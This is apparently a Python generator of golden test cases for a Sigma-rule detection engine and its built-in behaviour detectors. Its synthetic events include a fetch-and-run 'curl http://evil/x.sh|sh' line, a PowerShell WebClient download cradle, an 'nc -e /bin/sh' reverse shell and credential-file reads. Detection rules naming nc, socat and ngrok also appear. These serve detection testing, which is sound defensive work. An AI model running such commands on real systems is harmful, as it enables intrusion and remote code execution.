# Generates the golden detection cases in tests/data/detect/ (rule.yml, events.jsonl,
# expected.jsonl per case). Run it after changing a case here: python3 tests/data/gen_detect_golden.py
import json, os, base64, shutil
ROOT = os.path.join(os.path.dirname(os.path.abspath(__file__)), 'detect')
# Only the cases made here are rewritten: some (prefilter_memo) are written by hand.
os.makedirs(ROOT, exist_ok=True)

def proc(cmd, image='/usr/bin/bash', parent='/usr/sbin/sshd', user='alice', ts='2026-11-22T10:00:00Z', host='web1', **extra):
    e = {"@timestamp": ts, "event": {"category": ["process"], "type": ["start"], "action": "exec"},
         "host": {"name": host}, "user": {"name": user},
         "process": {"executable": image, "command_line": cmd, "name": image.rsplit('/',1)[-1],
                     "parent": {"executable": parent}}}
    for k, v in extra.items():
        e[k] = v
    return e

def net(dip, dport, image='/usr/bin/curl', ts='2026-11-22T10:00:00Z', host='web1', domain=None, action='connection_attempted'):
    e = {"@timestamp": ts, "event": {"category": ["network"], "type": ["start"], "action": action},
         "host": {"name": host}, "process": {"executable": image},
         "destination": {"ip": dip, "port": dport}, "source": {"ip": "10.1.1.1", "port": 40000}}
    if domain: e["destination"]["domain"] = domain
    return e

def fileev(path, action='creation', image='/usr/bin/touch', ts='2026-11-22T10:00:00Z'):
    return {"@timestamp": ts, "event": {"category": ["file"], "type": ["creation"], "action": action},
            "host": {"name": "web1"}, "process": {"executable": image}, "file": {"path": path}}

def case(name, rule, events, hits, errors=None, placeholders=None):
    d = os.path.join(ROOT, name)
    shutil.rmtree(d, ignore_errors=True)
    os.makedirs(d)
    open(os.path.join(d, 'rule.yml'), 'w').write(rule.strip('\n') + '\n')
    with open(os.path.join(d, 'events.jsonl'), 'w') as f:
        for e in events:
            f.write((e if isinstance(e, str) else json.dumps(e)) + '\n')
    with open(os.path.join(d, 'expected.jsonl'), 'w') as f:
        for h in hits:
            if isinstance(h, tuple):
                h = {"line": h[0], "rule": h[1]}
            f.write(json.dumps(h) + '\n')
    if errors:
        open(os.path.join(d, 'errors.txt'), 'w').write('\n'.join(errors) + '\n')
    if placeholders:
        json.dump(placeholders, open(os.path.join(d, 'placeholders.json'), 'w'))

def rule(rid, detection, logsource='    product: linux\n    category: process_creation', extra=''):
    return f"""
title: {rid} test rule
id: {rid}
level: high
logsource:
{logsource}
detection:
{detection}
{extra}"""

# ---- modifiers ----
case('mod_contains', rule('r', """    selection:
        CommandLine|contains: 'PassWD'
    condition: selection"""),
     [proc('cat /etc/passwd'), proc('cat /etc/PASSWD.bak'), proc('cat /etc/shadow')],
     [(1,'r'),(2,'r')])
case('mod_startswith_endswith', rule('r', """    sel_start:
        CommandLine|startswith: 'curl '
    sel_end:
        Image|endswith: '/nc'
    condition: sel_start or sel_end"""),
     [proc('curl http://x', image='/usr/bin/curl'), proc('xcurl http://x'), proc('nc -l 4444', image='/usr/bin/nc'),
      proc('ncat', image='/usr/bin/ncat')],
     [(1,'r'),(3,'r')])
case('mod_exact_default', rule('r', """    selection:
        Image: '/usr/bin/WHOAMI'
    condition: selection"""),
     [proc('whoami', image='/usr/bin/whoami'), proc('whoami2', image='/usr/bin/whoami2'), proc('x', image='/bin/usr/bin/whoami')],
     [(1,'r')])
case('mod_wildcards', rule('r', """    sel_glob:
        CommandLine: 'tar *c*f /tmp/?.tgz*'
    sel_escaped:
        CommandLine: 'echo \\*literal\\*'
    condition: 1 of sel_*"""),
     [proc('tar -czf /tmp/a.tgz /etc'), proc('tar -czf /tmp/ab.tgz /etc'), proc('echo *literal*'), proc('echo xliteralx')],
     [(1,'r'),(3,'r')])
case('mod_all', rule('r', """    selection:
        CommandLine|contains|all:
            - ' -a '
            - ' -b '
    condition: selection"""),
     [proc('tool -a -b x'), proc('tool -b -a x'), proc('tool -a x'), proc('tool -b x')],
     [(1,'r'),(2,'r')])
case('mod_list_or', rule('r', """    selection:
        Image|endswith:
            - '/wget'
            - '/curl'
    condition: selection"""),
     [proc('wget x', image='/usr/bin/wget'), proc('curl x', image='/usr/bin/curl'), proc('ftp', image='/usr/bin/ftp')],
     [(1,'r'),(2,'r')])
case('mod_re', rule('r', """    sel_plain:
        CommandLine|re: '^python[0-9.]* -c .*socket'
    sel_i:
        CommandLine|re|i: 'BASE64 +-D'
    sel_m:
        CommandLine|re|m: '^second$'
    sel_s:
        CommandLine|re|s: 'alpha.omega'
    condition: 1 of sel_*"""),
     [proc('python3.11 -c import socket'), proc('PYTHON3 -c import socket'), proc('echo x | base64  -d'),
      proc('first\nsecond\nthird'), proc('alpha\nomega'), proc('alphaomega')],
     [(1,'r'),(3,'r'),(4,'r'),(5,'r')])
# A regular expression whose only certain literals are short: -(W|R) gives the set "-w", "-r"
# (case-folded, so "-w" in line 7 is a candidate that the case-sensitive expression rejects), and
# nc\s+-e the two-byte "nc". Lines with neither are ruled out before evaluation.
case('prefilter_regex_sets', rule('r', """    sel_pnscan:
        CommandLine|re: '-(W|R)\\s?(\\s|"|\'\')([0-9a-fA-F]{2}\\s?){2,20}(\\s|"|\'\')'
    sel_nc:
        CommandLine|re: 'nc\\s+-e'
    condition: 1 of sel_*"""),
     [proc("pnscan -W '0a 0b 0c' 10.0.0.1"), proc('pnscan -R "aa bb cc" host'), proc('ls -w 80 -r'),
      proc('nc -e /bin/sh 10.0.0.2 4444'), proc('ncat -e /bin/sh'), proc('echo 0a 0b 0c'),
      proc("pnscan -w '0a 0b 0c' 10.0.0.1")],
     [(1,'r'),(2,'r'),(4,'r')])
b = base64.b64encode(b'secret-token').decode()
case('mod_base64', rule('r', """    selection:
        CommandLine|base64|contains: 'secret-token'
    condition: selection"""),
     [proc('echo ' + b + ' | sh'), proc('echo ' + b.lower() + ' | sh'), proc('echo secret-token')],
     [(1,'r')])
payloads = [b'curl http://evil/x.sh|sh', b'Xcurl http://evil/x.sh|sh', b'XYcurl http://evil/x.sh|sh', b'echo hello world']
case('mod_base64offset', rule('r', """    selection:
        CommandLine|base64offset|contains: 'curl http://evil'
    condition: selection"""),
     [proc('echo ' + base64.b64encode(p).decode() + ' | base64 -d | sh') for p in payloads],
     [(1,'r'),(2,'r'),(3,'r')])
wide = 'IEX (New-Object Net.WebClient)'.encode('utf-16le')
payloads = [wide, b'\x00' + wide, b'A\x00B\x00' + wide, 'Write-Host hi'.encode('utf-16le')]
case('mod_wide_base64offset', rule('r', """    selection:
        CommandLine|wide|base64offset|contains: 'New-Object Net.WebClient'
    condition: selection""", logsource='    category: process_creation'),
     [proc('pwsh -enc ' + base64.b64encode(p).decode()) for p in payloads],
     [(1,'r'),(2,'r'),(3,'r')])
case('mod_utf16_json_nul', rule('r', """    sel_le:
        CommandLine|utf16le|contains: 'cmd'
    sel_be:
        ParentCommandLine|utf16be|contains: 'sh'
    condition: 1 of sel_*""", logsource='    category: process_creation'),
     ['{"event":{"category":"process","action":"exec"},"process":{"command_line":"x c\\u0000m\\u0000d\\u0000 y"}}',
      '{"event":{"category":"process","action":"exec"},"process":{"command_line":"cmd"}}',
      '{"event":{"category":"process","action":"exec"},"process":{"parent":{"command_line":"\\u0000s\\u0000h"}}}'],
     [(1,'r'),(3,'r')])
case('mod_windash', rule('r', """    selection:
        CommandLine|windash|contains: ' -exec '
    condition: selection"""),
     [proc('find . -exec sh'), proc('find . /exec sh'), proc('find . \u2013exec sh'), proc('find . \u2014exec sh'), proc('find . exec sh')],
     [(1,'r'),(2,'r'),(3,'r'),(4,'r')])
case('mod_cidr', rule('r', """    selection:
        DestinationIp|cidr:
            - '10.0.0.0/8'
            - '192.168.1.0/24'
            - 'fd00::/8'
    condition: selection""", logsource='    product: linux\n    category: network_connection'),
     [net('10.200.3.4', 443), net('192.168.2.1', 443), net('fd12::1', 53), net('8.8.8.8', 53), net('::ffff:10.1.1.1', 22)],
     [(1,'r'),(3,'r'),(5,'r')])
case('mod_numeric', rule('r', """    sel_high:
        DestinationPort|gte: 1024
        DestinationPort|lt: 5000
    sel_exact:
        DestinationPort: 31337
    condition: sel_high or sel_exact""", logsource='    category: network_connection'),
     [net('1.1.1.1', 1023), net('1.1.1.1', 1024), net('1.1.1.1', 4999), net('1.1.1.1', 5000), net('1.1.1.1', 31337)],
     [(2,'r'),(3,'r'),(5,'r')])
case('mod_exists', rule('r', """    sel_has:
        process.hash.sha256|exists: true
    sel_lacks:
        user.name|exists: false
    condition: sel_has or sel_lacks"""),
     [proc('a'), proc('b', process={"executable": "/x", "command_line": "b", "hash": {"sha256": "ab"}}),
      {"event": {"category": "process", "action": "exec"}, "process": {"command_line": "nouser"}}],
     [(2,'r'),(3,'r')])
case('mod_null', rule('r', """    selection:
        CommandLine|contains: 'run'
        ParentCommandLine: null
    condition: selection"""),
     [proc('run1'), dict(proc('run2'), process={"command_line": "run2", "parent": {"command_line": ""}}),
      dict(proc('run3'), process={"command_line": "run3", "parent": {"command_line": "bash"}})],
     [(1,'r'),(2,'r')])
case('mod_empty_string', rule('r', """    selection:
        process.working_directory: ''
    condition: selection"""),
     [dict(proc('a'), process={"command_line": "a", "working_directory": ""}), proc('b'),
      dict(proc('c'), process={"command_line": "c", "working_directory": "/"})],
     [(1,'r')])
case('mod_fieldref', rule('r', """    selection:
        ParentImage|fieldref: Image
    condition: selection"""),
     [proc('bash', image='/usr/bin/bash', parent='/usr/bin/bash'), proc('bash', image='/usr/bin/bash', parent='/usr/bin/BASH'),
      proc('bash', image='/usr/bin/bash', parent='/usr/bin/zsh')],
     [(1,'r'),(2,'r')])
case('mod_neq', rule('r', """    selection:
        Image|endswith: '/sudo'
        User|neq: root
    condition: selection"""),
     [proc('sudo', image='/usr/bin/sudo', user='alice'), proc('sudo', image='/usr/bin/sudo', user='root'),
      proc('sudo', image='/usr/bin/sudo', user='ROOT')],
     [(1,'r')])
case('mod_cased', rule('r', """    selection:
        CommandLine|cased|contains: 'SECRET'
    condition: selection"""),
     [proc('echo SECRET'), proc('echo secret')],
     [(1,'r')])
case('mod_expand', rule('r', """    selection:
        CommandLine|expand|contains: 'ssh %admin_hosts%'
    condition: selection"""),
     [proc('ssh bastion1'), proc('ssh db2 -p 22'), proc('ssh web7')],
     [(1,'r'),(2,'r')], placeholders={"admin_hosts": ["bastion1", "db2"]})
case('mod_time', rule('r', """    selection:
        CommandLine|contains: 'backup'
        '@timestamp|hour|lt': 5
    condition: selection"""),
     [proc('backup', ts='2026-11-22T03:10:00Z'), proc('backup', ts='2026-11-22T12:10:00Z'), proc('backup', ts='2026-11-22T04:59:59.5Z')],
     [(1,'r'),(3,'r')])
case('mod_plain_number', rule('r', """    selection:
        DestinationPort:
            - 4444
            - 1337
    condition: selection""", logsource='    category: network_connection'),
     [net('1.1.1.1', 4444), net('1.1.1.1', 44440), net('1.1.1.1', 1337)],
     [(1,'r'),(3,'r')])
# ---- conditions ----
case('cond_bool', rule('r', """    a:
        CommandLine|contains: 'alpha'
    b:
        CommandLine|contains: 'beta'
    c:
        CommandLine|contains: 'gamma'
    condition: a and not (b or c) or (b and c)"""),
     [proc('alpha'), proc('alpha beta'), proc('beta gamma'), proc('alpha gamma'), proc('delta')],
     [(1,'r'),(3,'r')])
case('cond_not_precedence', rule('r', """    a:
        CommandLine|contains: 'alpha'
    b:
        CommandLine|contains: 'beta'
    condition: not a and b"""),
     [proc('alpha beta'), proc('beta'), proc('alpha')],
     [(2,'r')])
case('cond_of', rule('r', """    selection_1:
        CommandLine|contains: 'one'
    selection_2:
        CommandLine|contains: 'two'
    filter_x:
        CommandLine|contains: 'skip'
    condition: 1 of selection_* and not 1 of filter_*""") + "\n---\n" + rule('s', """    selection_1:
        CommandLine|contains: 'one'
    selection_2:
        CommandLine|contains: 'two'
    condition: all of selection_*""") + "\n---\n" + rule('t', """    a:
        CommandLine|contains: 'one'
    b:
        CommandLine|contains: 'two'
    _private:
        CommandLine|contains: 'never'
    condition: all of them"""),
     [proc('one'), proc('one two'), proc('one skip'), proc('three')],
     [(1,'r'),(2,'r'),(2,'s'),(2,'t')])
case('cond_list', rule('r', """    a:
        CommandLine|contains: 'alpha'
    b:
        CommandLine|contains: 'beta'
    condition:
        - a
        - b"""),
     [proc('alpha'), proc('beta'), proc('gamma')],
     [(1,'r'),(2,'r')])
case('sel_list_of_maps', rule('r', """    selection:
        - Image|endswith: '/nc'
          CommandLine|contains: ' -e '
        - Image|endswith: '/socat'
    condition: selection"""),
     [proc('nc -e /bin/sh', image='/usr/bin/nc'), proc('nc -l', image='/usr/bin/nc'), proc('socat x', image='/usr/bin/socat')],
     [(1,'r'),(3,'r')])
case('keywords', rule('r', """    keywords:
        - 'Accepted password for root'
        - 'session opened for user root'
    condition: keywords""", logsource='    product: linux'),
     [{"message": "sshd[1]: Accepted password for root from 1.2.3.4"}, {"message": "sshd[1]: accepted PASSWORD for ROOT"},
      {"message": "sshd[1]: Failed password for root"}, {"log": {"original": "pam: session opened for user root by x"}}],
     [(1,'r'),(2,'r'),(4,'r')])
case('keywords_and_selection', rule('r', """    selection:
        process.name: 'sshd'
    keywords:
        - 'Invalid user'
    condition: selection and keywords""", logsource='    product: linux'),
     [{"process": {"name": "sshd"}, "message": "Invalid user admin"}, {"process": {"name": "cron"}, "message": "Invalid user admin"}],
     [(1,'r')])
# ---- routing and fields ----
case('logsource_routing', rule('p', """    selection:
        CommandLine|contains: 'evil'
    condition: selection""") + "\n---\n" + rule('f', """    selection:
        TargetFilename|contains: 'evil'
    condition: selection""", logsource='    product: linux\n    category: file_event') + "\n---\n" + rule('w', """    selection:
        CommandLine|contains: 'evil'
    condition: selection""", logsource='    product: windows\n    category: process_creation'),
     [proc('evil'), fileev('/tmp/evil'), fileev('/tmp/evil', action='deletion')],
     [(1,'p'),(2,'f')])
case('field_mapping_network', rule('r', """    selection:
        DestinationHostname|endswith: '.ngrok.io'
        Image|endswith: '/curl'
    condition: selection""", logsource='    category: network_connection'),
     [net('1.2.3.4', 443, domain='abc.ngrok.io'), net('1.2.3.4', 443, domain='ngrok.io.example'), net('1.2.3.4', 443, domain='x.ngrok.io', image='/usr/bin/wget')],
     [(1,'r')])
case('field_ecs_names', rule('r', """    selection:
        process.parent.executable|endswith: '/nginx'
        process.name:
            - 'sh'
            - 'bash'
    condition: selection"""),
     [proc('sh -c id', image='/bin/sh', parent='/usr/sbin/nginx'), proc('sh -c id', image='/bin/sh', parent='/usr/sbin/sshd')],
     [(1,'r')])
case('auditd_raw', rule('r', """    execve:
        type: 'EXECVE'
        a0: 'chattr'
        a1|startswith: '-i'
    path:
        type: 'PATH'
        name: '/etc/shadow'
    condition: execve or path""", logsource='    product: linux\n    service: auditd'),
     ['type=EXECVE msg=audit(1700000000.123:456): argc=3 a0="chattr" a1="-i" a2="/etc/passwd"',
      'type=EXECVE msg=audit(1700000000.124:457): argc=3 a0=636861747472 a1=2D6961 a2="/etc/passwd"',
      'type=EXECVE msg=audit(1700000000.125:458): argc=2 a0="chattr" a1="+i"',
      'type=PATH msg=audit(1700000000.126:459): item=0 name="/etc/shadow" inode=1 nametype=NORMAL',
      proc('chattr -i /etc/passwd')],
     [(1,'r'),(2,'r'),(4,'r')])
# ---- filters ----
case('sigma_filter', rule('r', """    selection:
        Image|endswith: '/crontab'
    condition: selection""") + """
---
title: Allow the backup user
id: flt1
logsource:
    product: linux
    category: process_creation
filter:
    rules:
        - r
    selection:
        User: backup
    condition: selection
""",
     [proc('crontab -l', image='/usr/bin/crontab', user='alice'), proc('crontab -l', image='/usr/bin/crontab', user='backup')],
     [(1,'r')])
# ---- correlations ----
def corr(rid, body, extra=''):
    return f"""
title: {rid} correlation
id: {rid}
level: critical
correlation:
{body}
{extra}"""
base_fail = rule('fail', """    selection:
        CommandLine|contains: 'su -'
        process.exit_code: 1
    condition: selection""", extra='name: failed_su')
case('corr_event_count', base_fail + "\n---\n" + corr('c', """    type: event_count
    rules:
        - failed_su
    group-by:
        - User
    timespan: 5m
    condition:
        gte: 3"""),
     [dict(proc('su -', user='bob', ts=f'2026-11-22T10:0{i}:00Z'), **{}) for i in range(0)] +
     [{"@timestamp": t, "event": {"category": "process", "action": "exec"}, "user": {"name": u}, "process": {"command_line": "su -", "exit_code": 1}}
      for (t, u) in [("2026-11-22T10:00:00Z", "bob"), ("2026-11-22T10:01:00Z", "bob"), ("2026-11-22T10:01:30Z", "eve"),
                     ("2026-11-22T10:02:00Z", "bob"), ("2026-11-22T10:20:00Z", "eve"), ("2026-11-22T10:30:00Z", "eve"),
                     ("2026-11-22T10:40:00Z", "eve")]],
     [{"line": 4, "rule": "c", "group": "User=bob", "count": 3}])
case('corr_event_count_generate', base_fail + "\n---\n" + corr('c', """    type: event_count
    rules:
        - failed_su
    group-by:
        - User
    timespan: 5m
    generate: true
    condition:
        gt: 1"""),
     [{"@timestamp": t, "event": {"category": "process", "action": "exec"}, "user": {"name": "bob"}, "process": {"command_line": "su -", "exit_code": 1}}
      for t in ["2026-11-22T10:00:00Z", "2026-11-22T10:01:00Z"]],
     [(1,'fail'),(2,'fail'),{"line": 2, "rule": "c", "group": "User=bob", "count": 2}])
case('corr_value_count', rule('conn', """    selection:
        DestinationPort|lt: 1024
    condition: selection""", logsource='    category: network_connection', extra='name: low_port') + "\n---\n" + corr('c', """    type: value_count
    rules:
        - low_port
    group-by:
        - SourceIp
    timespan: 1m
    condition:
        field: DestinationPort
        gte: 3"""),
     [net('10.0.0.9', 22, ts='2026-11-22T10:00:00Z'), net('10.0.0.9', 22, ts='2026-11-22T10:00:01Z'),
      net('10.0.0.9', 80, ts='2026-11-22T10:00:02Z'), net('10.0.0.9', 443, ts='2026-11-22T10:00:03Z')],
     [{"line": 4, "rule": "c", "group": "SourceIp=10.1.1.1", "count": 3}])
recon = lambda rid, word: rule(rid, f"""    selection:
        CommandLine|contains: '{word}'
    condition: selection""", extra=f'name: {rid}')
case('corr_temporal', recon('ra', 'whoami') + "\n---\n" + recon('rb', 'uname') + "\n---\n" + recon('rc', 'ifconfig') + "\n---\n" + corr('c', """    type: temporal
    rules:
        - ra
        - rb
        - rc
    group-by:
        - host.name
    timespan: 2m"""),
     [proc('uname -a', ts='2026-11-22T10:00:00Z'), proc('whoami', ts='2026-11-22T10:00:30Z', host='other'),
      proc('whoami', ts='2026-11-22T10:01:00Z'), proc('ifconfig', ts='2026-11-22T10:01:30Z'),
      proc('uname -a', ts='2026-11-22T10:10:00Z'), proc('whoami', ts='2026-11-22T10:11:00Z'), proc('ifconfig', ts='2026-11-22T10:14:00Z')],
     [{"line": 4, "rule": "c", "group": "host.name=web1", "count": 3}])
case('corr_temporal_ordered', recon('ra', 'wget') + "\n---\n" + recon('rb', 'chmod +x') + "\n---\n" + corr('c', """    type: temporal_ordered
    rules:
        - ra
        - rb
    group-by:
        - host.name
    timespan: 5m"""),
     [proc('chmod +x a', ts='2026-11-22T10:00:00Z'), proc('wget a', ts='2026-11-22T10:01:00Z'),
      proc('chmod +x a', ts='2026-11-22T10:02:00Z'), proc('wget b', ts='2026-11-22T10:10:00Z'), proc('chmod +x b', ts='2026-11-22T10:20:00Z')],
     [{"line": 3, "rule": "c", "group": "host.name=web1", "count": 2}])
case('corr_aliases', rule('ra', """    selection:
        CommandLine|contains: 'nc -l'
    condition: selection""", extra='name: listener') + "\n---\n" + rule('rb', """    selection:
        DestinationPort: 4444
    condition: selection""", logsource='    category: network_connection', extra='name: inbound') + "\n---\n" + corr('c', """    type: temporal
    rules:
        - listener
        - inbound
    group-by:
        - box
    aliases:
        box:
            listener: host.name
            inbound: host.name
    timespan: 1m"""),
     [proc('nc -l 4444', ts='2026-11-22T10:00:00Z'), net('10.0.0.1', 4444, ts='2026-11-22T10:00:10Z', host='other'),
      net('10.0.0.1', 4444, ts='2026-11-22T10:00:20Z')],
     [{"line": 3, "rule": "c", "group": "box=web1", "count": 2}])
# ---- errors ----
case('errors_unsupported', rule('bad1', """    selection:
        CommandLine|frobnicate: 'x'
    condition: selection""") + "\n---\n" + rule('bad2', """    selection:
        CommandLine: 'x'
    condition: selection and missing""") + "\n---\n" + rule('bad3', """    selection:
        CommandLine: 'x'
    condition: selection | count() by User > 5""") + "\n---\n" + rule('bad4', """    selection:
        CommandLine|re: '(unclosed'
    condition: selection""") + "\n---\n" + rule('good', """    selection:
        CommandLine: 'x'
    condition: selection""") + "\n---\n" + rule('good', """    selection:
        CommandLine: 'y'
    condition: selection""") + "\n---\n" + rule('bad5', """    selection:
        CommandLine|expand: '%nothere%'
    condition: selection""") + """
---
title: no detection here
id: bad6
logsource:
    product: linux
""" + "\n---\n" + rule('bad7', """    selection:
        CommandLine|cidr: 'not-a-net'
    condition: selection""") + "\n---\n" + rule('bad8', """    selection:
        DestinationPort|gt: 'abc'
    condition: selection"""),
     [proc('x'), proc('y')],
     [(1,'good')],
     errors=["unsupported modifier 'frobnicate'", "unknown detection identifier 'missing'", "aggregation expressions",
             "bad regular expression", "duplicate id good", "placeholder '%nothere%' has no values",
             "not a Sigma rule", "bad CIDR 'not-a-net'", "'abc' is not a number"])
print('cases:', len(os.listdir(ROOT)))

# ---- behaviour (built-in detectors) ----
NORULES = "# behaviour cases use no Sigma rules, only the built-in detectors\n"
def ts(sec):
    return "2026-11-22T%02d:%02d:%02d.%03dZ" % (10 + int(sec) // 3600, (int(sec) % 3600) // 60, int(sec) % 60, int(round((sec % 1) * 1000)))
beacons = [net('198.51.100.7', 443, image='/tmp/.x/agent', ts=ts(60 * i + (0.4 if i % 2 else 0))) for i in range(10)]
noisy = [net('198.51.100.8', 443, image='/usr/bin/curl', ts=ts(t)) for t in [0, 7, 100, 130, 400, 410, 800, 1500, 1520, 3000]]
local = [net('127.0.0.1', 8080, image='/usr/bin/monitor', ts=ts(30 * i)) for i in range(10)]
ev = []
for a, b, c in zip(beacons, noisy, local):
    ev += [a, b, c]
case('behaviour_beaconing', NORULES, ev, [{"line": 22, "rule": "mamori-behaviour-beaconing",
      "group": "web1|/tmp/.x/agent|198.51.100.7|443 interval=60.1s jitter=0.7%", "count": 8}])
recon = ['whoami', 'id', 'uname -a', 'hostname', 'cat /etc/passwd', 'ps aux', 'ss -tlnp', 'ip a', 'df -h', 'w', 'last', 'sudo -l', 'getent passwd']
ev = []
for i, c in enumerate(recon):
    name = c.split()[0]
    e = proc(c, image='/usr/bin/' + name, ts=ts(i * 5))
    e["process"]["name"] = name
    e["process"]["parent"]["entity_id"] = "shell-1"
    ev.append(e)
    e2 = proc(c, image='/usr/bin/' + name, ts=ts(i * 5 + 1))
    e2["process"]["name"] = name
    e2["process"]["parent"]["entity_id"] = "shell-%d" % (100 + i)
    ev.append(e2)
case("behaviour_discovery", NORULES, ev, [{"line": 21, "rule": "mamori-behaviour-discovery-burst",
      "group": "web1|shell-1 commands=whoami,id,uname,hostname,cat,ps,ss,ip,w,last", "count": 10}])
def ren(i, old, new, entity='enc-1', t=0.0):
    return {"@timestamp": ts(t), "event": {"category": ["file"], "type": ["change"], "action": "rename"},
            "host": {"name": "web1"}, "process": {"entity_id": entity, "executable": "/tmp/enc"},
            "file": {"path": "/srv/data/" + new, "name": new, "Ext": {"original": {"path": "/srv/data/" + old, "name": old}}}}
ev = [ren(i, 'doc%d.pdf' % i, 'doc%d.pdf.locked' % i, t=i * 0.1) for i in range(25)]
ev += [ren(i, 'f%d.tmp' % i, 'f%d.o' % i, entity='gcc-1', t=i * 0.1) for i in range(25)]
case('behaviour_ransomware_rename', NORULES, ev, [{"line": 20, "rule": "mamori-behaviour-ransomware-rename",
      "group": "web1|enc-1 extension=.locked", "count": 20}])
# The window slides: a burst of 20 renames fires wherever it falls against earlier activity. For
# enc-2 an ordinary write 9.55 s before the burst would open a fixed window the burst straddles;
# for enc-4 a counting rename does (which also opens a window that starts at counting events).
# A trickle of renames 0.6 s apart (20 take 11.4 s) never fires; a burst gives one alert, not one
# per rename after the 20th; an event stamped before the latest one counts at the latest time.
def plain(entity, t):
    return {"@timestamp": ts(t), "event": {"category": ["file"], "type": ["change"], "action": "modification"},
            "host": {"name": "web1"}, "process": {"entity_id": entity, "executable": "/tmp/enc"},
            "file": {"path": "/srv/data/x", "name": "x"}}
ev = [plain('enc-2', 0)]
ev += [ren(i, 'b%d.pdf' % i, 'b%d.pdf.locked' % i, entity='enc-2', t=9.55 + i * 0.05) for i in range(30)]
ev += [ren(0, 'a.pdf', 'a.pdf.locked', entity='enc-4', t=40)]
ev += [ren(i, 'd%d.pdf' % i, 'd%d.pdf.locked' % i, entity='enc-4', t=49.55 + i * 0.05) for i in range(24)]
ev += [ren(0, 'late.pdf', 'late.pdf.locked', entity='enc-4', t=49.0)]
ev += [ren(i, 'c%d.doc' % i, 'c%d.doc.crypt' % i, entity='enc-3', t=60 + i * 0.6) for i in range(25)]
case('behaviour_ransomware_window', NORULES, ev, [
    {"line": 21, "rule": "mamori-behaviour-ransomware-rename", "group": "web1|enc-2 extension=.locked", "count": 20},
    {"line": 52, "rule": "mamori-behaviour-ransomware-rename", "group": "web1|enc-4 extension=.locked", "count": 20}])
def wr(i, ent):
    return {"@timestamp": ts(i * 0.2), "event": {"category": ["file"], "type": ["change"], "action": "modification"},
            "host": {"name": "web1"}, "process": {"entity_id": "w-1", "executable": "/tmp/w"},
            "file": {"path": "/srv/f%d" % i, "name": "f%d" % i, "Ext": {"entropy": ent}}}
ev = [wr(i, 7.9 if i % 4 else 3.0) for i in range(30)]
case('behaviour_ransomware_entropy', NORULES, ev, [{"line": 27, "rule": "mamori-behaviour-ransomware-entropy",
      "group": "web1|w-1", "count": 20}])
rs = proc('bash -i', image='/usr/bin/bash', ts=ts(0)); rs["tags"] = ["stdio-socket"]
fl = proc('x', image='/memfd:payload (deleted)', ts=ts(1))
fl2 = proc('y', image='/tmp/y', ts=ts(2)); fl2["process"]["Ext"] = {"deleted_executable": True}
case('behaviour_single_event', NORULES, [rs, fl, fl2, proc('bash', ts=ts(3))],
     [{"line": 1, "rule": "mamori-behaviour-reverse-shell"}, {"line": 2, "rule": "mamori-behaviour-fileless-exec"},
      {"line": 3, "rule": "mamori-behaviour-fileless-exec"}])
print('cases:', len(os.listdir(ROOT)))

# ---- Sigma's Initiated on agent network events ----
case('field_initiated', rule('r', """    selection:
        Initiated: 'true'
        DestinationPort: 4444
    condition: selection""", logsource='    product: linux\n    category: network_connection'),
     [net('1.2.3.4', 4444), net('1.2.3.4', 4444, action='connection_accepted'), net('1.2.3.4', 4445)],
     [(1, 'r')])
print('cases:', len(os.listdir(ROOT)))

# ---- the prefilter never costs a detection ----
# A keyword made only of hex characters is still found inside a hash (id-like values skip the
# keyword scan only when no keyword could match in them).
hx = proc('sha256sum /bin/x'); hx["process"]["hash"] = {"sha256": "00ff" + "deadbeef" + "11" * 26}
case('prefilter_keyword_idish', rule('r', """    keywords:
        - 'deadbeef'
        - '/tmp/evil'
    condition: keywords""", logsource='    product: linux'),
     [hx, proc('cp /tmp/evil /root'), proc('ls /tmp'), proc('cat 2026-11-22T10:00:00Z')],
     [(1, 'r'), (2, 'r')])
# A glob keyword indexed under its rarest run (".b64 ", not " /tmp/") still needs all its runs.
case('prefilter_glob_rarity', rule('r', """    keywords:
        - '* /tmp/*.b64 *'
        - '*chmod +s /*'
    condition: keywords""", logsource='    product: linux'),
     [proc('base64 -d /tmp/x.b64 > /tmp/y'), proc('tar xf .b64 x /tmp/a.tgz'), proc('cat x.b64 /tmp/'),
      proc('sudo chmod +s /usr/bin/find'), proc('chmod +s x')],
     [(1, 'r'), (4, 'r')])
# Matchers whose literal is absent are ruled out, the others still decide: cased, all, neq.
case('prefilter_absent_literals', rule('r', """    selection:
        CommandLine|contains|cased: 'EVIL'
    filter:
        CommandLine|contains|all:
            - 'safe'
            - 'word'
    condition: selection and not filter""") + "\n---\n" + rule('q', """    selection:
        CommandLine|contains|all:
            - 'alpha'
            - 'omega'
        User|neq: 'root'
    condition: selection"""),
     [proc('run EVIL now'), proc('run evil now'), proc('EVIL safe word'), proc('EVIL safe'),
      proc('alpha then omega'), proc('alpha then omega', user='root'), proc('alpha only')],
     [(1, 'r'), (4, 'r'), (5, 'q')])
print('cases:', len(os.listdir(ROOT)))
